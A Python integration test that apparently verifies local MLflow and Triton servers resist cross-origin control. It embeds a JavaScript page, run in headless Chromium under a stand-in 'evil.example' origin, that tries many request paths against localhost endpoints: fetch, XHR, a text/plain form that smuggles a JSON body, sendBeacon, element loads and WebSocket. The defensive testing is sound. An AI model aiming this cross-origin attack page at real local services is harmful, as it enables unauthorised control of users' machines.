"""A page of another origin, in a real browser, tries every control path of both local servers: none takes effect."""

import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from dataclasses import asdict
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from rushes.processes import Server, end_group, status
from rushes.serving.control_key import GRPC_PREFIX, HEADER, read_key
from rushes.serving.server import address
from tests.attacks import mlflow_attacks, triton_attacks
from tests.integration.conftest import Cli

pytestmark = pytest.mark.servers

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
PAGE = """<!doctype html><body><script>
const types = ["text/plain", "application/x-www-form-urlencoded", "application/json"];
const quietly = promise => Promise.resolve(promise).catch(() => "");
function form(attack, url) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  const field = document.createElement("input");
  frame.name = url + Math.random();
  Object.assign(form, {method: attack.method, action: url, enctype: "text/plain", target: frame.name});
  Object.assign(field, {name: attack.body.slice(0, -1) + ',"pad":"', value: '"}'});
  form.append(field);
  document.body.append(frame, form);
  return new Promise(done => { frame.onload = done; form.submit(); setTimeout(done, 5000); });
}
function xhr(attack, url) {
  return new Promise(done => {
    const request = new XMLHttpRequest();
    request.onloadend = () => done(request.responseText);
    request.open(attack.method, url);
    request.setRequestHeader("Content-Type", "text/plain");
    request.send(attack.body || null);
  });
}
function element(tag, url) {
  return new Promise(done => {
    const made = Object.assign(document.createElement(tag), {src: url, onload: done, onerror: done});
    document.body.append(made);
    setTimeout(done, 5000);
  });
}
function socket(url) {
  return new Promise(done => {
    const opened = new WebSocket(url.replace("http", "ws"));
    opened.onclose = opened.onerror = () => done("");
    opened.onmessage = message => done(message.data);
    opened.onopen = () => opened.send("{}");
    setTimeout(() => done(""), 5000);
  });
}
async function attempt(attack, url, thorough) {
  const read = [], body = attack.method == "GET" || attack.method == "HEAD" ? undefined : attack.body;
  for (const type of thorough ? types : [types[0], types[2]]) {
    const options = {method: attack.method, body, headers: body ? {"Content-Type": type} : {}};
    if (["GET", "HEAD", "POST"].includes(attack.method)) await quietly(fetch(url, {...options, mode: "no-cors"}));
    read.push(await quietly(fetch(url, options).then(reply => reply.text())));
  }
  if (!thorough) return read.join("");
  read.push(await quietly(xhr(attack, url)));
  if (body) navigator.sendBeacon(url, body);
  if (["GET", "POST"].includes(attack.method)) await form(attack, url);
  await Promise.all(["img", "script", "iframe"].map(tag => element(tag, url)));
  read.push(await socket(url));
  return read.join("");
}
(async () => {
  const {attacks, hosts} = await (await fetch("/attacks")).json(), read = {};
  for (const host of hosts)
    await Promise.all(attacks.map(async ([server, attack, port, thorough]) => {
      const url = `http://${host}:${port}${attack.path}`;
      const text = await quietly(attempt(attack, url, thorough));
      if (server != "bait" && text) read[attack.method + " " + url] = text.slice(0, 200);
    }));
  await fetch("/done", {method: "POST", body: JSON.stringify(read)});
})();
</script>"""


class Site:
    """The page's server; also a bait: what reaches it, reaches any server that does not refuse."""

    def __init__(self, attacks: dict[str, Any]) -> None:
        self.attacks, self.done, self.read = attacks, threading.Event(), dict[str, str]()
        self.arrived: list[tuple[str, str, str, str]] = []

    def handler(self) -> type[BaseHTTPRequestHandler]:
        site = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode(errors="replace")
                text = {"/attacks": json.dumps(site.attacks), "/page": PAGE}.get(self.path, "")
                if self.path == "/done":
                    site.read = json.loads(body)
                elif not text:
                    kind = self.headers.get("Upgrade") or self.headers.get("Content-Type") or ""
                    dest = self.headers.get("Sec-Fetch-Dest") or ""
                    site.arrived.append((self.command, kind.split(";")[0], dest, body))
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(text.encode())))
                self.end_headers()
                self.wfile.write(text.encode())
                if self.path == "/done":
                    site.done.set()

            do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = do_OPTIONS = do_HEAD = answer  # noqa: N815

            def log_message(self, format: str, *args: object) -> None:
                """Logs nothing."""

        return Handler


@pytest.fixture
def both(cli: Cli) -> dict[str, Server]:
    found = {name: status(name=name, home=cli.home) for name in ("mlflow", "triton")}
    servers = {name: server for name, server in found.items() if server is not None}
    if "triton" not in servers:
        pytest.skip("no Triton here")
    return servers


@pytest.fixture
def state(cli: Cli, both: dict[str, Server]) -> Iterator[Callable[[], str]]:
    """What both servers hold, asked with the key."""
    import tritonclient.grpc
    from mlflow import MlflowClient

    tracking = MlflowClient(tracking_uri=both["mlflow"].url("http"))
    headers = {f"{GRPC_PREFIX}{HEADER}": str(read_key(cli.home))}
    methods = ["get_model_repository_index", "get_log_settings", "get_system_shared_memory_status"]
    with tritonclient.grpc.InferenceServerClient(address(both["triton"])) as client:
        yield lambda: str(
            [getattr(client, method)(headers=headers) for method in methods]
            + [tracking.search_experiments(), tracking.search_registered_models(), tracking.search_runs(["0"])]
        )


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: tests/install_chromium.sh installs it")
@pytest.mark.parametrize("origin", ["evil.example", "127.0.0.1", pytest.param("127.0.0.2", marks=pytest.mark.soak)])
def test_a_page_of_another_origin_controls_neither_server(
    origin: str, cli: Cli, both: dict[str, Server], state: Callable[[], str], tmp_path: Path
) -> None:
    (folder := tmp_path / "attacked").mkdir()
    before = state()
    control = triton_attacks(folder, endpoint="motion")
    attacks: list[Any] = [["triton", asdict(a), both["triton"].ports["http"], True] for a in control]
    attacks += [
        ["mlflow", asdict(a), both["mlflow"].ports["http"], a.path.endswith("experiments/create")]
        for a in mlflow_attacks()
        if a.path not in ("/health", "/version")
    ]
    site = Site({"hosts": ["127.0.0.1", "evil.example"]})
    where = "127.0.0.2" if origin == "127.0.0.2" else "127.0.0.1"
    with (
        ThreadingHTTPServer((where, 0), site.handler()) as server,
        ThreadingHTTPServer(("127.0.0.1", 0), site.handler()) as bait,
    ):
        site.attacks["attacks"] = [*attacks, *(["bait", asdict(a), bait.server_port, True] for a in control[:3])]
        threads = [threading.Thread(target=each.serve_forever, daemon=True) for each in (server, bait)]
        for thread in threads:
            thread.start()
        open_page(f"http://{origin}:{server.server_port}/page", profile=tmp_path / "profile", until=site.done)
        for each in (server, bait):
            each.shutdown()
    kinds = {(command, kind) for command, kind, _, body in site.arrived}
    assert {("POST", "text/plain"), ("POST", "application/x-www-form-urlencoded"), ("GET", "websocket")} <= kinds
    assert {"image", "script", "iframe", "empty"} <= {dest for _, _, dest, _ in site.arrived}
    assert control[0].body in {body for _, _, _, body in site.arrived}, "as a server without a guard gets it"
    assert site.read == {}, "no answer can be read"
    assert state() == before and list(folder.iterdir()) == []
    assert str(read_key(cli.home)) not in json.dumps(site.read)


def open_page(url: str, *, profile: Path, until: threading.Event) -> None:
    """Opens a page in a browser without a window, until it says that it is done."""
    argv = [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"]
    argv += ["--host-resolver-rules=MAP evil.example 127.0.0.1", f"--user-data-dir={profile}", url]
    with (profile.parent / "chromium.log").open("wb") as log:
        browser = subprocess.Popen(argv, stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
        try:
            assert until.wait(400), (profile.parent / "chromium.log").read_text()[-3000:]
        finally:
            end_group(browser)
